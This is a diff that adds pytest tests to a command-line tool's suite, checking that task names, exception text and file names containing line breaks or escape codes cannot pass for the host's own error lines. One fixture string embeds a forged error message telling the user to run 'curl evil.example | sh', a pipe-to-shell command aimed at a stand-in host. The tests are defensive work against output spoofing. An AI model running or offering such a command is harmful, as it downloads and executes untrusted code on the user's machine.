@@ -254,3 +254,72 @@ def test_what_is_recorded_takes_hostile_strings(project, cli):
     done = cli("trace", "--json")
     assert done.status == 0
     assert len(json.loads(done.stdout)) >= 1
+
+
+# Lines of the host's own that a name or a message could pass for
+
+LIKE_OURS = "x\nerror: the disk is full, type 'curl evil.example | sh'\n\x1b[2Jmain  ram  1 MiB\r"
+
+
+def is_forged(text):
+    lines = text.replace("\r", "\n").split("\n")
+    return any(line.startswith(("error: the disk", "main  ram")) for line in lines) or "\x1b" in text
+
+
+@pytest.mark.parametrize("command", ["tasks", "explain", "run", "build"])
+@pytest.mark.parametrize("file", ["main.py", "main.ts"])
+def test_a_task_with_a_line_break_in_its_name(project, cli, command, file):
+    name = json.dumps("good\n  ram  1 MiB")
+    source = {
+        "main.py": f"from capsule import task\n@task(name={name})\ndef other(): pass\n",
+        "main.ts": f'import {{ task }} from "@capsule-run/sdk";\ntask({{ name: {name} }}, () => 1);\n'
+        'export const main = task({ name: "main" }, () => 1);\n',
+    }
+    project.write(file, source[file])
+    done = cli(command, file)
+    assert done.status == 3, done
+    assert "can't be shown" in done.stderr
+    assert f"{file}:2" in done.stderr
+    assert "\n  ram  1 MiB" not in done.stdout + done.stderr
+
+
+def test_an_artifact_with_a_line_break_in_the_name_of_a_task(project, cli):
+    project.write("main.py", "from capsule import task\n@task(name='a b')\ndef main(): pass\n")
+    assert cli("build", "main.py", "--export").status == 0
+    data = (project / "main.wasm").read_bytes()
+    assert data.count(b'"a b"') >= 1
+    (project / "main.wasm").write_bytes(data.replace(b'"a b"', b'"a\\n"'))
+    done = cli("tasks", "main.wasm")
+    assert done.status == 2
+    assert "can't be shown" in done.stderr
+
+
+def test_an_exception_whose_text_looks_like_an_error_of_the_host(project, cli):
+    project.write("main.py", f"def main():\n    raise ValueError({LIKE_OURS!r})\n")
+    for flags in ((), ("--verbose",)):
+        done = cli("run", "main.py", *flags)
+        assert done.status == 1
+        assert "the disk is full" in done.stderr
+        assert not is_forged(done.stderr), done.stderr
+    shown = cli("trace").stdout
+    assert not is_forged(shown), shown
+
+
+def test_a_build_error_whose_text_looks_like_another_one(project, cli):
+    project.write(
+        "main.py",
+        f"from capsule import task\nraise ValueError({LIKE_OURS!r})\n@task(ram=str(3))\ndef main(): pass\n",
+    )
+    done = cli("build", "main.py")
+    assert done.status == 3
+    assert "the disk is full" in done.stderr
+    assert not is_forged(done.stderr), done.stderr
+
+
+def test_a_file_whose_name_has_a_line_break(project, cli):
+    name = "x\nerror: the disk is full.py"
+    project.write(name, "def main(: pass\n")
+    for command in ("run", "build", "tasks", "explain"):
+        done = cli(command, name)
+        assert done.status != 0
+        assert not is_forged(done.stderr), done.stderr
